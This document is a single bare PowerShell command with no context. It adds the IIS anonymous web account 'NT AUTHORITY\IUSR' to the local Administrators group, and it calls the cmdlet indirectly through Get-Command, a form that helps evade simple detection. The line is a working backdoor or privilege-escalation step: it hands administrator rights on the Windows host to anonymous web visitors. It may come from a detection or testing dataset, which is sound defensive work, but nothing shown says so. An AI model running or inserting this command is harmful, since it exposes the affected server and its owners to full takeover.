& (Get-Command Add-LocalGroupMember) -Group Administrators -Member 'NT AUTHORITY\IUSR'
